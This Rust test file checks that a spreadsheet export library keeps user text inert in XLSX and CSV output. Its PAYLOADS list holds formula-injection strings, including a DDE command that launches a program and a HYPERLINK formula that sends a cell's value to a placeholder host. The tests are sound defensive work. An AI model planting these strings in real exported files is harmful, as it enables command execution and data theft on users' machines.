//! Sheets out: what people typed comes back unchanged and never runs.

use std::io::Cursor;

use uya::{
    domain::date::Date,
    transfer::{
        office::{self, Content, NoticeCode, Opened, Table},
        workbook::{
            Cell, Column, Form, LISTS, LONG_TEXTS, Layout, Separated, SeparatedSheets, SheetWriter, TooLong, Value,
            Workbook, rejoin, unguarded,
        },
    },
};

/// Beginnings that some spreadsheet runs, and texts that attack the form of the file itself.
const PAYLOADS: [&str; 36] = [
    "=1+1",
    "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+7 701 000 00 00",
    "-1+1",
    "-5",
    "@SUM(1+1)",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   @SUM(1)",
    "\u{feff}=1+1",
    "\u{a0}=1+1",
    "\u{200b}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "\"=1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "1) үй\n- емхана\n- мектеп",
    "a\r\n=1+1",
    "<r><t>=1+1</t></r>",
    "<f>1+1</f>",
    "]]>&amp;<!--",
    "_x003D_1+1",
    "_x000D_",
    "%0A=1",
    "{=1+1}",
];

fn layout(name: &str, titles: &[&str]) -> Layout {
    Layout::new(name, titles.iter().map(|title| Column::new(*title, Form::Text)).collect())
}

/// The same with a remark above the headings.
fn remarked(name: &str, titles: &[&str], remark: &str) -> Layout {
    Layout { remark: Some(remark.into()), ..layout(name, titles) }
}

fn saved(book: Workbook) -> Vec<u8> {
    let mut bytes = Vec::new();
    book.save(Cursor::new(&mut bytes)).unwrap();
    bytes
}

fn opened(bytes: &[u8]) -> (Opened, Table) {
    let opened = office::open(bytes, "x.xlsx").unwrap();
    let Content::Table(table) = opened.content.clone() else { panic!("not a table") };
    (opened, table)
}

fn payload_book() -> Vec<u8> {
    let mut book = Workbook::new();
    for is_secret in [false, true] {
        let name = if is_secret { "names" } else { "texts" };
        book.begin(&Layout { is_secret, ..layout(name, &["=1+1", "note"]) }).unwrap();
        for payload in PAYLOADS {
            book.row(&[Cell::text(payload), Cell::text(payload).marked(payload)]).unwrap();
        }
    }
    saved(book)
}

#[test]
fn formulas_in_a_workbook_are_text_and_come_back_unchanged() {
    let (opened, table) = opened(&payload_book());
    assert_eq!(opened.notice(NoticeCode::FormulaValue), None, "no cell holds a formula");
    assert_eq!(table.sheets.len(), 2, "one whose rows lie on the disk meanwhile, one whose rows do not");
    for sheet in &table.sheets {
        assert_eq!(sheet.rows[0].value(1), Some(&office::Value::Text("=1+1".into())), "the heading too");
        assert_eq!(sheet.rows.len(), PAYLOADS.len() + 1);
        for (row, payload) in sheet.rows[1..].iter().zip(PAYLOADS) {
            for column in [1, 2] {
                assert_eq!(row.value(column), Some(&office::Value::Text(payload.into())), "{}", sheet.name);
            }
        }
    }
}

#[test]
fn formulas_in_separated_values_are_guarded_and_come_back_unchanged() {
    let mut sheet = Separated::begin(Vec::new(), &remarked("texts", &["text"], "=remark")).unwrap();
    for payload in PAYLOADS {
        sheet.row(&[Cell::text(payload)]).unwrap();
    }
    let bytes = sheet.finish().unwrap();
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(&bytes[3..]);
    assert_eq!(reader.headers().unwrap().get(0), Some("'=remark"));
    let rows: Vec<String> = reader.records().skip(1).map(|row| row.unwrap()[0].to_owned()).collect();
    assert_eq!(rows.len(), PAYLOADS.len());
    for (cell, payload) in rows.iter().zip(PAYLOADS) {
        let parts = cell.split([',', ';', '\t', '\n', '\r']);
        let runs = |part: &str| {
            part.trim_start_matches(['\u{feff}', '\u{200b}', ' ', '\u{a0}']).starts_with(['=', '+', '-', '@'])
        };
        assert!(!parts.into_iter().any(runs), "{cell:?} could run");
        assert_eq!(unguarded(cell), payload);
    }
}

#[test]
fn cells_come_back_in_their_kind() {
    let day = Date::new(2019, 2, 28).unwrap();
    let early = Date::new(1899, 12, 31).unwrap();
    let mut book = Workbook::new();
    let forms = [Form::Text, Form::Whole, Form::Decimal, Form::Day, Form::YesNo];
    book.begin(&Layout::new("kinds", forms.map(|form| Column::new(format!("{form:?}"), form)).into())).unwrap();
    let row = |values: [Value; 5]| values.map(Cell::from);
    book.row(&row([
        Value::Text("00123".into()),
        Value::Whole(7),
        Value::Decimal(43.25),
        Value::Day(day),
        Value::YesNo(true),
    ]))
    .unwrap();
    book.row(&row([
        Value::Blank,
        Value::Whole(i64::MAX),
        Value::Decimal(-0.1),
        Value::Day(early),
        Value::YesNo(false),
    ]))
    .unwrap();
    let (_, table) = opened(&saved(book));
    let rows = &table.sheets[0].rows;
    let value = |row: usize, column| rows[row].value(column).cloned();
    assert_eq!(value(1, 1), Some(office::Value::Text("00123".into())));
    assert_eq!(value(1, 2), Some(office::Value::Number(7.0)));
    assert_eq!(value(1, 3), Some(office::Value::Number(43.25)));
    let Some(office::Value::Serial(serial, epoch)) = value(1, 4) else { panic!("not a day") };
    assert_eq!(epoch.day(serial), Some((2019, 2, 28)));
    assert_eq!(value(1, 5), Some(office::Value::Truth(true)));
    assert_eq!(value(2, 1), None);
    assert_eq!(value(2, 2), Some(office::Value::Text(i64::MAX.to_string().into())), "a spreadsheet would round it");
    assert_eq!(value(2, 4), Some(office::Value::Text("1899-12-31".into())), "Excel counts a day too many");
}

#[test]
fn the_same_rows_are_the_same_bytes() {
    assert_eq!(payload_book(), payload_book());
}

#[test]
fn a_text_longer_than_a_cell_goes_on_elsewhere_and_is_whole_again() {
    let long = "=ұ😀".repeat(20_000);
    let mut book = Workbook::new();
    book.begin(&layout("texts", &["text"])).unwrap();
    book.row(&[Cell::text(&long)]).unwrap();
    book.row(&[Cell::text("short")]).unwrap();
    let (_, mut table) = opened(&saved(book));
    assert_eq!(table.sheets.iter().map(|sheet| sheet.name.as_str()).collect::<Vec<_>>(), ["texts", LONG_TEXTS]);
    let Some(office::Value::Text(shown)) = table.sheets[0].rows[1].value(1) else { panic!("not a text") };
    assert!(shown.ends_with("⟦→ long_texts 1⟧"), "the cell says where the text goes on");
    rejoin(&mut table).unwrap();
    assert_eq!(table.sheets.len(), 1);
    assert_eq!(table.sheets[0].rows[1].value(1), Some(&office::Value::Text(long.into())));
    assert_eq!(table.sheets[0].rows[2].value(1), Some(&office::Value::Text("short".into())));
}

#[test]
fn cells_that_name_more_text_than_a_file_may_hold_are_refused() {
    let sheet =
        |name: &str, rows: Vec<office::Row>| office::Sheet { name: name.into(), rows, ..office::Sheet::default() };
    let text = |text: String| office::Value::Text(text.into());
    let row = |number: u32, values: Vec<office::Value>| {
        let cells = (1..).zip(values).map(|(column, value)| office::Cell { column, value }).collect();
        office::Row { number, cells }
    };
    let rest = || "a".repeat(32_700);
    let pieces: Vec<office::Row> =
        (1..=40).map(|number| row(number, vec![office::Value::Number(1.0), text(rest())])).collect();
    let named = || text(format!("{}⟦→ long_texts 1⟧", rest()));
    let table = |cells: u32| office::Table {
        sheets: vec![
            sheet("families", (1..=cells).map(|number| row(number, vec![named()])).collect()),
            sheet(LONG_TEXTS, pieces.clone()),
        ],
    };
    let mut copied = table(3);
    rejoin(&mut copied).unwrap();
    let Some(office::Value::Text(whole)) = copied.sheets[0].rows[2].value(1) else { panic!("not a text") };
    assert_eq!(whole.len(), 41 * 32_700, "a row that was copied has its text too");
    assert_eq!(rejoin(&mut table(13)), Err(TooLong), "one megabyte named thirteen times");
}

#[test]
fn signs_that_a_sheet_cannot_hold_are_drawn() {
    let mut book = Workbook::new();
    book.begin(&layout("texts", &["text"])).unwrap();
    book.row(&[Cell::text("a\u{0}b\u{1b}c").marked("d\u{7}")]).unwrap();
    let (_, table) = opened(&saved(book));
    assert_eq!(table.sheets[0].rows[1].value(1), Some(&office::Value::Text("a␀b␛c".into())));
}

#[test]
fn lists_to_choose_from_stand_in_the_rule_or_on_a_hidden_sheet() {
    let short = Column { choices: vec!["иә".into(), "жоқ".into()], ..Column::new("a", Form::Text) };
    let long: Vec<String> = (0..200).map(|number| format!("тіл {number}, диалект")).collect();
    let long = Column { choices: long, ..Column::new("b", Form::Text) };
    let mut book = Workbook::new();
    book.begin(&Layout::new("sheet", vec![short, long.clone(), long])).unwrap();
    let bytes = saved(book);
    let (_, table) = opened(&bytes);
    let lists = table.sheets.iter().find(|sheet| sheet.name == LISTS).unwrap();
    assert!(lists.is_hidden);
    assert_eq!(lists.rows.len(), 200);
    assert_eq!(lists.rows[0].cells.len(), 1, "a list that two columns share stands once");
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let sheet = std::io::read_to_string(archive.by_name("xl/worksheets/sheet1.xml").unwrap()).unwrap();
    assert!(sheet.contains("<formula1>\"иә,жоқ\"</formula1>"), "{sheet}");
    assert!(sheet.contains("<formula1>lists!$A$1:$A$200</formula1>"), "{sheet}");
}

#[test]
fn a_sheet_name_that_no_workbook_takes_is_refused() {
    for name in ["", "a/b", "a[b", "lists of more than thirty-one letters"] {
        assert!(Workbook::new().begin(&layout(name, &["a"])).is_err(), "{name}");
    }
    let mut book = Workbook::new();
    book.begin(&layout("Families", &["a"])).unwrap();
    assert!(book.begin(&layout("families", &["a"])).is_err(), "names differ by more than capitals");
}

#[test]
fn sheets_of_separated_values_are_files_of_one_archive() {
    let mut sheets = SeparatedSheets::new(Cursor::new(Vec::new()));
    sheets.begin(&remarked("one", &["a", "b"], "№ 7")).unwrap();
    sheets.row(&[Cell::text("x"), Value::YesNo(true).into()]).unwrap();
    sheets.begin(&layout("two", &["c"])).unwrap();
    let bytes = sheets.finish().unwrap().into_inner();
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let names: Vec<String> = archive.file_names().map(|name| name.unwrap().into_owned()).collect();
    assert_eq!(names, ["one.csv", "two.csv"]);
    let one = std::io::read_to_string(archive.by_name("one.csv").unwrap()).unwrap();
    assert_eq!(one, "\u{feff}\"№ 7\"\r\n\"a\";\"b\"\r\n\"x\";\"true\"\r\n");
}
